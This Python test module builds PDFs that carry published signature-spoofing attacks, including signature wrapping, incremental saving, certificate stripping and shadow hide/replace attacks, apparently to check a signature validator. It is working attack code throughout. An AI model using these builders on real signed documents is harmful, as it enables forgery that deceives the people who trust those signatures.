"""Builders of attacked PDF files for the validation tests.

The attacks follow the published descriptions by Mladenov, Mainka, Rohlmann et
al.: the Incremental Saving Attack (ISA), the Signature Wrapping Attack (SWA)
and Universal Signature Forgery (USF) from "1 Trillion Dollar Refund: How To
Spoof PDF Signatures" (CCS 2019), and the hide, replace and hide-and-replace
shadow attacks from "Shadow Attacks: Hiding and Replacing Content in Signed
PDFs" (NDSS 2021). Every builder works on real bytes: a PDF written here object
by object, pyHanko's incremental writer, or byte edits of a signed file.
"""

from __future__ import annotations

import asyncio
import io
import re
import struct
from collections.abc import Callable
from dataclasses import dataclass, field

from asn1crypto import cms
from cryptography.hazmat.primitives import hashes
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.sign.fields import MDPPerm
from pyhanko.sign.signers import PdfSignatureMetadata, PdfSigner, Signer

# --- a small PDF written object by object -------------------------------------------

PAGE_WIDTH, PAGE_HEIGHT = 595, 842
VISIBLE_LINE = b"Decision: the budget of 100000 BDT is approved."
HIDDEN_LINE = b"Decision: the budget of 900000 BDT is approved."
SHADOW_LINE = b"Decision: the meeting dissolves the committee."
FIELD_RECT = (300, 560, 500, 584)
"""Rectangle of the text field ``Amount`` in PDF user space."""
OVERLAY_RECT = (66, 640, 420, 664)
"""Rectangle that the overlay XObject paints white over the hidden line."""


def _text(x: int, y: int, size: int, line: bytes) -> bytes:
    return b"BT /F1 %d Tf %d %d Td (%s) Tj ET\n" % (size, x, y, line)


def field_appearance(value: bytes) -> bytes:
    """Content of the text field's normal appearance stream showing ``value``."""
    return b"/Tx BMC q BT /F1 14 Tf 0 g 4 6 Td (%s) Tj ET Q EMC" % value


@dataclass
class _RawPdf:
    """A PDF with a classic cross-reference table and caller-chosen object numbers."""

    chunks: list[bytes] = field(default_factory=lambda: [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"])
    offsets: dict[int, int] = field(default_factory=dict)
    unlisted: dict[int, int] = field(default_factory=dict)
    """Objects written to the body but left out of the cross-reference table."""

    @property
    def size(self) -> int:
        return sum(len(chunk) for chunk in self.chunks)

    def add(self, number: int, body: bytes, *, listed: bool = True) -> None:
        (self.offsets if listed else self.unlisted)[number] = self.size
        self.chunks.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    def add_stream(self, number: int, entries: bytes, data: bytes, *, listed: bool = True) -> None:
        body = b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)
        self.add(number, body, listed=listed)

    def finish(self, root: int, info: int) -> bytes:
        xref_offset = self.size
        highest = max(self.offsets)
        lines = [b"xref\n0 %d\n" % (highest + 1), b"0000000000 65535 f \n"]
        for number in range(1, highest + 1):
            if number in self.offsets:
                lines.append(b"%010d 00000 n \n" % self.offsets[number])
            else:
                lines.append(b"0000000000 00000 f \n")
        trailer = b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
            highest + 1,
            root,
            info,
            xref_offset,
        )
        return b"".join(self.chunks + lines + [trailer])


@dataclass(frozen=True)
class BaseDocument:
    """A one-page PDF prepared for shadow attacks, and where its shadow objects are."""

    data: bytes
    shadow_catalog_offset: int
    """Offset of a second ``1 0 obj`` (a catalog over the shadow page tree) that no xref lists."""
    shadow_object_stream: int
    """Number of an object stream whose only object is a catalog numbered 1 over the shadow page tree."""
    offsets: dict[int, int]
    """Offset of each object listed in the xref table."""


# Object numbers of the base document.
CATALOG, PAGES, PAGE, CONTENT, FONT, OVERLAY, INFO = 1, 2, 3, 4, 5, 6, 7
ACROFORM, AMOUNT_FIELD, SIGNATURE_FIELD, AMOUNT_APPEARANCE = 10, 11, 12, 13
SHADOW_PAGES, SHADOW_PAGE, SHADOW_CONTENT, SHADOW_CATALOG, SHADOW_OBJECT_STREAM = 20, 21, 22, 23, 30


def build_base_document() -> BaseDocument:
    """Write a one-page PDF of minutes with the objects that the attacks need.

    Page 1 draws a title, a line that the overlay XObject ``/Ov`` paints over
    with white and replaces by another line, and a text field ``Amount`` whose
    appearance shows ``100000 BDT``. An empty signature field ``Signature1`` is
    in the form already, so signing only fills it and leaves the catalog as it
    is. A shadow page tree (objects 20 to 22) is listed but unreachable, and two
    other catalogs that point to it are hidden in the body: one as an unlisted
    ``1 0 obj`` and one inside an object stream.
    """
    pdf = _RawPdf()
    catalog = b"<< /Type /Catalog /Pages %d 0 R /AcroForm %d 0 R >>"
    pdf.add(CATALOG, catalog % (PAGES, ACROFORM))
    shadow_catalog_offset = pdf.size
    pdf.add(CATALOG, catalog % (SHADOW_PAGES, ACROFORM), listed=False)
    pdf.add(PAGES, b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % PAGE)

    page = (
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 %d %d] /Contents %d 0 R "
        b"/Resources << /Font << /F1 %d 0 R >> /XObject << /Ov %d 0 R >> >> "
        b"/Annots [%d 0 R %d 0 R] >>"
    )
    pdf.add(PAGE, page % (PAGES, PAGE_WIDTH, PAGE_HEIGHT, CONTENT, FONT, OVERLAY, AMOUNT_FIELD, SIGNATURE_FIELD))
    content = (
        _text(72, 760, 20, b"Minutes of the board meeting")
        + _text(72, 700, 14, b"Present: the chair, the secretary, three members.")
        + _text(72, 646, 14, HIDDEN_LINE)
        + b"q /Ov Do Q\n"
        + _text(72, 566, 14, b"Amount:")
    )
    pdf.add_stream(CONTENT, b"", content)
    pdf.add(FONT, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    x1, y1, x2, y2 = OVERLAY_RECT
    overlay = b"1 g %d %d %d %d re f 0 g\n" % (x1, y1, x2 - x1, y2 - y1) + _text(72, 646, 14, VISIBLE_LINE)
    form_entries = b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources << /Font << /F1 %d 0 R >> >>"
    pdf.add_stream(OVERLAY, form_entries % (PAGE_WIDTH, PAGE_HEIGHT, FONT), overlay)
    pdf.add(INFO, b"<< /Title (Minutes of the board meeting) /Producer (attack_files) >>")

    pdf.add(
        ACROFORM,
        b"<< /Fields [%d 0 R %d 0 R] /DA (/F1 0 Tf 0 g) /DR << /Font << /F1 %d 0 R >> >> >>"
        % (AMOUNT_FIELD, SIGNATURE_FIELD, FONT),
    )
    fx1, fy1, fx2, fy2 = FIELD_RECT
    pdf.add(
        AMOUNT_FIELD,
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Amount) /V (100000 BDT) /DA (/F1 14 Tf 0 g) "
        b"/Rect [%d %d %d %d] /F 4 /P %d 0 R /AP << /N %d 0 R >> >>"
        % (fx1, fy1, fx2, fy2, PAGE, AMOUNT_APPEARANCE),
    )
    pdf.add(
        SIGNATURE_FIELD,
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 0 0] /F 132 /P %d 0 R >>" % PAGE,
    )
    appearance_entries = b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources << /Font << /F1 %d 0 R >> >>"
    pdf.add_stream(AMOUNT_APPEARANCE, appearance_entries % (fx2 - fx1, fy2 - fy1, FONT), field_appearance(b"100000 BDT"))

    pdf.add(SHADOW_PAGES, b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % SHADOW_PAGE)
    pdf.add(
        SHADOW_PAGE,
        page % (SHADOW_PAGES, PAGE_WIDTH, PAGE_HEIGHT, SHADOW_CONTENT, FONT, OVERLAY, AMOUNT_FIELD, SIGNATURE_FIELD),
    )
    shadow_content = _text(72, 760, 20, b"Minutes of the board meeting") + _text(72, 700, 14, SHADOW_LINE)
    pdf.add_stream(SHADOW_CONTENT, b"", shadow_content)
    shadow_catalog = catalog % (SHADOW_PAGES, ACROFORM)
    pdf.add(SHADOW_CATALOG, shadow_catalog)

    # An object stream holding "1 0 obj", the catalog of the shadow page tree.
    header = b"%d 0 " % CATALOG
    pdf.add_stream(
        SHADOW_OBJECT_STREAM,
        b"/Type /ObjStm /N 1 /First %d" % len(header),
        header + shadow_catalog,
    )
    return BaseDocument(
        data=pdf.finish(root=CATALOG, info=INFO),
        shadow_catalog_offset=shadow_catalog_offset,
        shadow_object_stream=SHADOW_OBJECT_STREAM,
        offsets=dict(pdf.offsets),
    )


# --- signing ---------------------------------------------------------------------------


def sign_field(
    data: bytes,
    signer: Signer,
    *,
    field_name: str = "Signature1",
    certify: MDPPerm | None = None,
) -> bytes:
    """Sign ``data`` in the field ``field_name`` with pyHanko, as a certification with ``certify``."""
    metadata = PdfSignatureMetadata(
        field_name=field_name,
        subfilter=fields.SigSeedSubFilter.PADES,
        certify=certify is not None,
        docmdp_permissions=certify or MDPPerm.FILL_FORMS,
    )
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    return signers.sign_pdf(writer, metadata, signer=signer).getvalue()


def sign_with_byte_range(
    data: bytes, signer: Signer, choose: Callable[[int, int, int], tuple[int, int, int, int]]
) -> bytes:
    """Sign ``data`` over a /ByteRange chosen by the caller, with a signature that verifies.

    ``choose(contents_start, contents_end, file_length)`` returns the four
    /ByteRange numbers. The bytes they cover are hashed and signed as they are,
    so only the structure of the byte range is wrong, never the digest. The
    chosen ranges must not include the hexadecimal digits of the signature
    value, which are written after hashing. A trailing part of the reserved
    /Contents string stays zeros and may be covered.
    """
    return asyncio.run(_sign_with_byte_range(data, signer, choose))


async def _sign_with_byte_range(data: bytes, signer: Signer, choose) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    metadata = PdfSignatureMetadata(field_name="Signature1", subfilter=fields.SigSeedSubFilter.PADES)
    pdf_signer = PdfSigner(metadata, signer=signer)
    prepared, _, output = await pdf_signer.async_digest_doc_for_signing(writer, bytes_reserved=16384)
    buffer = bytearray(output.getvalue())
    start, end = prepared.reserved_region_start, prepared.reserved_region_end

    byte_range = choose(start, end, len(buffer))
    placeholder = re.search(rb"/ByteRange \[([0-9 ]+)\]( *)", bytes(buffer[end:]))
    assert placeholder is not None
    width = placeholder.end(2) - placeholder.start(1)
    numbers = b"%d %d %d %d]" % byte_range
    assert len(numbers) <= width, "the chosen /ByteRange does not fit the placeholder"
    position = end + placeholder.start(1)
    buffer[position : position + width] = numbers.ljust(width)

    digest = hashes.Hash(hashes.SHA256())
    first_start, first_length, second_start, second_length = byte_range
    digest.update(bytes(buffer[first_start : first_start + first_length]))
    digest.update(bytes(buffer[second_start : second_start + second_length]))
    signed_data = await signer.async_sign(digest.finalize(), "sha256", use_pades=True)
    hex_value = signed_data.dump().hex().upper().encode()
    assert len(hex_value) < end - start - 2 - 64, "the signature does not leave zeros for a shifted range"
    buffer[start + 1 : start + 1 + len(hex_value)] = hex_value
    return bytes(buffer)


# --- byte-level edits of a signed file --------------------------------------------------


@dataclass(frozen=True)
class SignatureLayout:
    """Where the parts of the last signature dictionary are in a signed file."""

    byte_range: tuple[int, int, int, int]
    byte_range_text: tuple[int, int]
    """Start and end of ``/ByteRange [...]`` with its padding spaces."""
    contents: tuple[int, int]
    """Start and end of the ``<...>`` hexadecimal string."""


def signature_layout(signed: bytes) -> SignatureLayout:
    match = list(re.finditer(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\] *", signed))[-1]
    byte_range = tuple(int(match.group(index)) for index in range(1, 5))
    return SignatureLayout(
        byte_range=byte_range,
        byte_range_text=(match.start(), match.end()),
        contents=(byte_range[1], byte_range[2]),
    )


def replace_same_length(data: bytes, start: int, end: int, replacement: bytes) -> bytes:
    """Replace ``data[start:end]``, padding with spaces, so that no offset moves."""
    assert len(replacement) <= end - start, "the replacement is longer than the text it replaces"
    return data[:start] + replacement.ljust(end - start) + data[end:]


def without_certificates(signed: bytes) -> bytes:
    """Remove the certificates from the last signature's CMS, in the unsigned /Contents gap."""
    return _rewrite_signed_data(signed, keep_certificates=False)


def without_signer_infos(signed: bytes) -> bytes:
    """Empty the SignerInfos of the last signature's CMS, in the unsigned /Contents gap."""
    return _rewrite_signed_data(signed, keep_signer_infos=False)


def _rewrite_signed_data(signed: bytes, *, keep_certificates: bool = True, keep_signer_infos: bool = True) -> bytes:
    layout = signature_layout(signed)
    start, end = layout.contents
    content_info = cms.ContentInfo.load(bytes.fromhex(signed[start + 1 : end - 1].decode()))
    signed_data = content_info["content"]
    fields_kept = {
        "version": signed_data["version"],
        "digest_algorithms": signed_data["digest_algorithms"],
        "encap_content_info": signed_data["encap_content_info"],
        "signer_infos": signed_data["signer_infos"] if keep_signer_infos else cms.SignerInfos([]),
    }
    if keep_certificates:
        fields_kept["certificates"] = signed_data["certificates"]
    stripped = cms.ContentInfo({"content_type": "signed_data", "content": cms.SignedData(fields_kept)})
    hex_value = stripped.dump().hex().upper().encode()
    return signed[: start + 1] + hex_value.ljust(end - start - 2, b"0") + signed[end - 1 :]


def wrap_signature(signed: bytes) -> bytes:
    """Apply the Signature Wrapping Attack to the only signature of ``signed``.

    pyHanko writes /Contents before /ByteRange, so the second signed part starts
    with the /ByteRange entry and contains the last cross-reference section and
    ``startxref``. The attack moves that part to the end of the file inside a
    stream. It uses the room gained by dropping the zero padding of /Contents
    for a new /ByteRange, a replaced page content stream and a cross-reference
    table placed exactly where the signed ``startxref`` points. The signed bytes
    stay the same, so their digest still matches.
    """
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    layout = signature_layout(signed)
    _, first_length, second_start, second_length = layout.byte_range
    signed_revision = reader.xrefs.total_revisions - 1
    startxref = reader.xrefs.get_startxref_for_revision(signed_revision)
    previous_startxref = reader.xrefs.get_startxref_for_revision(signed_revision - 1)
    assert second_start < startxref, "the last xref section is not in the second signed part"

    hex_value = signed[first_length + 1 : second_start - 1].rstrip(b"0")
    hex_value += b"0" * (len(hex_value) % 2)
    sig_dict_rest = signed[layout.byte_range_text[1] : signed.index(b"endobj", second_start) + len(b"endobj\n")]

    page = reader.root["/Pages"]["/Kids"][0]
    content_ref = page.raw_get("/Contents").reference
    malicious = _text(72, 646, 14, b"Decision: the budget of 900000 BDT is approved.")

    body = bytearray(signed[:first_length])
    body += b"<" + hex_value + b">\n"
    byte_range_position = len(body)
    body += b"/ByteRange [0 0000000000 0000000000 0000000000]\n" + sig_dict_rest
    content_offset = len(body)
    body += b"%d %d obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        content_ref.idnum,
        content_ref.generation,
        len(malicious),
        malicious,
    )
    assert len(body) < startxref, "no room for the injected objects before the signed startxref"
    body += b" " * (startxref - len(body))

    # The new table repeats every entry of the signed revision and replaces the content stream.
    data = reader.xrefs.get_xref_data(signed_revision)
    assert not data.xrefs_in_objstm, "the signed revision uses object streams"
    entries = {idnum: offset for idnum, (generation, offset) in data.standard_xrefs.items()}
    entries[content_ref.idnum] = content_offset
    table = [b"xref\n"]
    for idnum in sorted(entries):
        table.append(b"%d 1\n%010d 00000 n \n" % (idnum, entries[idnum]))
    trailer = reader.trailer_view
    table.append(
        b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\n"
        % (
            trailer["/Size"],
            trailer.raw_get("/Root").reference.idnum,
            trailer.raw_get("/Info").reference.idnum,
            previous_startxref,
        )
    )
    body += b"".join(table)
    body += b"999999 0 obj\n<< /Length %d >>\nstream\n" % second_length
    moved_start = len(body)
    body += signed[second_start : second_start + second_length]

    numbers = b"0 %d %d %d]" % (first_length, moved_start, second_length)
    slot = body.index(b"0 0000000000", byte_range_position)
    slot_end = body.index(b"]", slot) + 1
    body[slot:slot_end] = numbers.ljust(slot_end - slot)
    return bytes(body)


# --- incremental updates -------------------------------------------------------------


def incremental_update(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """Apply ``change`` to a pyHanko incremental writer and return the updated file."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def redefine_object(writer: IncrementalPdfFileWriter, idnum: int, obj: generic.PdfObject) -> None:
    """Write a new definition of object ``idnum`` (generation 0) in the update."""
    writer.objects[(0, idnum)] = obj


def new_stream(entries: dict[str, generic.PdfObject], data: bytes) -> generic.StreamObject:
    dictionary = generic.DictionaryObject({generic.NameObject(key): value for key, value in entries.items()})
    return generic.StreamObject(dictionary, stream_data=data)


def append_xref_only_update(data: bytes, entries: dict[int, int], *, root: int | None = None) -> bytes:
    """Append an update with only a cross-reference table and a trailer, no object bodies.

    ``entries`` maps object numbers to offsets that already exist in ``data``.
    ``root`` replaces the trailer's /Root. This is how the hide-and-replace
    shadow attack activates objects prepared before signing.
    """
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    trailer = reader.trailer_view
    root_number = root if root is not None else trailer.raw_get("/Root").reference.idnum
    position = len(data)
    table = [b"xref\n"]
    for idnum in sorted(entries):
        table.append(b"%d 1\n%010d 00000 n \n" % (idnum, entries[idnum]))
    table.append(
        b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (
            trailer["/Size"],
            root_number,
            trailer.raw_get("/Info").reference.idnum,
            reader.last_startxref,
            position,
        )
    )
    return data + b"".join(table)


def append_object_stream_update(data: bytes, idnum: int, object_stream: int) -> bytes:
    """Append an xref stream update that moves object ``idnum`` into an existing object stream."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    trailer = reader.trailer_view
    size = int(trailer["/Size"])
    xref_number = size
    position = len(data)
    rows = struct.pack(">BIH", 2, object_stream, 0) + struct.pack(">BIH", 1, position, 0)
    entries = (
        b"/Type /XRef /W [1 4 2] /Index [%d 1 %d 1] /Size %d /Root %d 0 R /Info %d 0 R /Prev %d"
        % (
            idnum,
            xref_number,
            size + 1,
            trailer.raw_get("/Root").reference.idnum,
            trailer.raw_get("/Info").reference.idnum,
            reader.last_startxref,
        )
    )
    body = b"%d 0 obj\n<< %s /Length %d >>\nstream\n" % (xref_number, entries, len(rows))
    return data + body + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % position


# --- changes made after signing, as arguments of incremental_update -------------------


def _name(value: str) -> generic.NameObject:
    return generic.NameObject(value)


def _numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject(generic.NumberObject(value) for value in values)


def _form_xobject(writer: IncrementalPdfFileWriter, bbox: tuple[int, int, int, int], content: bytes):
    resources = generic.DictionaryObject(
        {_name("/Font"): generic.DictionaryObject({_name("/F1"): generic.IndirectObject(FONT, 0, writer.prev)})}
    )
    return new_stream(
        {"/Type": _name("/XObject"), "/Subtype": _name("/Form"), "/BBox": _numbers(*bbox), "/Resources": resources},
        content,
    )


def change_font(writer: IncrementalPdfFileWriter) -> None:
    """Rewrite the font dictionary /F1 of the base document to use Courier instead of Helvetica."""
    font = writer.get_object(generic.Reference(FONT, 0, writer.prev))
    font[_name("/BaseFont")] = _name("/Courier")
    writer.mark_update(generic.Reference(FONT, 0, writer.prev))


def remove_overlay(writer: IncrementalPdfFileWriter) -> None:
    """Hide attack: empty the overlay XObject, so the line it covered shows."""
    redefine_object(writer, OVERLAY, _form_xobject(writer, (0, 0, PAGE_WIDTH, PAGE_HEIGHT), b""))


def replace_overlay(writer: IncrementalPdfFileWriter) -> None:
    """Rewrite the overlay XObject with other text."""
    x1, y1, x2, y2 = OVERLAY_RECT
    content = b"1 g %d %d %d %d re f 0 g\n" % (x1, y1, x2 - x1, y2 - y1) + _text(
        72, 646, 14, b"Decision: the budget of 100000 BDT is rejected."
    )
    redefine_object(writer, OVERLAY, _form_xobject(writer, (0, 0, PAGE_WIDTH, PAGE_HEIGHT), content))


def fill_amount(writer: IncrementalPdfFileWriter, value: bytes = b"900000 BDT") -> None:
    """Replace attack by form filling: change the text field's value and its appearance."""
    field_ref = generic.Reference(AMOUNT_FIELD, 0, writer.prev)
    text_field = writer.get_object(field_ref)
    text_field[_name("/V")] = generic.TextStringObject(value.decode())
    writer.mark_update(field_ref)
    x1, y1, x2, y2 = FIELD_RECT
    redefine_object(writer, AMOUNT_APPEARANCE, _form_xobject(writer, (0, 0, x2 - x1, y2 - y1), field_appearance(value)))


def _add_annotation(writer: IncrementalPdfFileWriter, entries: dict[str, generic.PdfObject]):
    page_ref = writer.root["/Pages"].raw_get("/Kids")[0]
    page = page_ref.get_object()
    annotation = generic.DictionaryObject({_name(key): value for key, value in entries.items()})
    annotation[_name("/P")] = page_ref
    reference = writer.add_object(annotation)
    page["/Annots"].append(reference)
    writer.update_container(page)
    return reference


def add_square(writer: IncrementalPdfFileWriter) -> None:
    """Add a white Square annotation over the decision line of the base document."""
    _add_annotation(
        writer,
        {
            "/Type": _name("/Annot"),
            "/Subtype": _name("/Square"),
            "/Rect": _numbers(60, 636, 430, 668),
            "/C": _numbers(1, 1, 1),
            "/IC": _numbers(1, 1, 1),
        },
    )


def add_free_text(writer: IncrementalPdfFileWriter) -> None:
    """Add a FreeText annotation whose appearance paints another decision over the original one."""
    appearance = _form_xobject(
        writer, (0, 0, 370, 32), b"1 g 0 0 370 32 re f 0 g " + _text(6, 10, 14, b"Decision: the budget is rejected.")
    )
    _add_annotation(
        writer,
        {
            "/Type": _name("/Annot"),
            "/Subtype": _name("/FreeText"),
            "/Rect": _numbers(60, 636, 430, 668),
            "/DA": generic.TextStringObject("/F1 14 Tf 0 g"),
            "/Contents": generic.TextStringObject("Decision: the budget is rejected."),
            "/AP": generic.DictionaryObject({_name("/N"): writer.add_object(appearance)}),
        },
    )


def add_empty_signature_field(writer: IncrementalPdfFileWriter) -> None:
    """Sneaky signature: an unsigned signature field whose appearance covers the decision line."""
    appearance = _form_xobject(
        writer, (0, 0, 370, 32), b"1 g 0 0 370 32 re f 0 g " + _text(6, 10, 14, b"Decision: no budget.")
    )
    widget = _add_annotation(
        writer,
        {
            "/Type": _name("/Annot"),
            "/Subtype": _name("/Widget"),
            "/FT": _name("/Sig"),
            "/T": generic.TextStringObject("Signature9"),
            "/F": generic.NumberObject(4),
            "/Rect": _numbers(60, 636, 430, 668),
            "/AP": generic.DictionaryObject({_name("/N"): writer.add_object(appearance)}),
        },
    )
    form = writer.root["/AcroForm"]
    form["/Fields"].append(widget)
    writer.update_container(form)


def add_page(writer: IncrementalPdfFileWriter) -> None:
    from pyhanko.pdf_utils.writer import PageObject

    content = writer.add_object(generic.StreamObject(stream_data=_text(72, 760, 14, b"Annex: budget 900000 BDT")))
    writer.insert_page(PageObject(contents=content, media_box=(0, 0, PAGE_WIDTH, PAGE_HEIGHT)))


def replace_font_program(writer: IncrementalPdfFileWriter) -> None:
    """Replace attack on embedded fonts: give the first font of page 1 another font's glyphs.

    The stream object of the first embedded font program is rewritten under the
    same object number with the program of the next font, so the page's
    content and font dictionaries stay the same.
    """
    programs = []
    fonts = writer.root["/Pages"]["/Kids"][0]["/Resources"]["/Font"]
    for name in sorted(fonts):
        font = fonts[name]
        descendant = font["/DescendantFonts"][0] if "/DescendantFonts" in font else font
        descriptor = descendant["/FontDescriptor"]
        for key in ("/FontFile2", "/FontFile3", "/FontFile"):
            if key in descriptor:
                programs.append(descriptor.raw_get(key))
                break
    assert len(programs) >= 2, "the document needs two embedded font programs"
    target, source = programs[0], programs[1]
    source_stream = source.get_object()
    replacement = generic.StreamObject(
        generic.DictionaryObject({key: source_stream.raw_get(key) for key in source_stream if key != "/Length"}),
        encoded_data=source_stream.encoded_data,
    )
    redefine_object(writer, target.reference.idnum, replacement)


def redefine_signature_dictionary(writer: IncrementalPdfFileWriter) -> None:
    """Copy the last signature dictionary into a new revision, so its /Contents lies outside the signed gap."""
    signature_field = writer.get_object(generic.Reference(SIGNATURE_FIELD, 0, writer.prev))
    value = signature_field.raw_get("/V")
    original = value.get_object()
    copy = generic.DictionaryObject({key: original.raw_get(key) for key in original})
    redefine_object(writer, value.reference.idnum, copy)


def indirect_contents(writer: IncrementalPdfFileWriter) -> None:
    """Make /Contents of the signature dictionary an indirect reference to a copy of the signature value."""
    signature_field = writer.get_object(generic.Reference(SIGNATURE_FIELD, 0, writer.prev))
    value = signature_field.raw_get("/V")
    original = value.get_object()
    copy = generic.DictionaryObject({key: original.raw_get(key) for key in original})
    copy[_name("/Contents")] = writer.add_object(original.raw_get("/Contents"))
    redefine_object(writer, value.reference.idnum, copy)
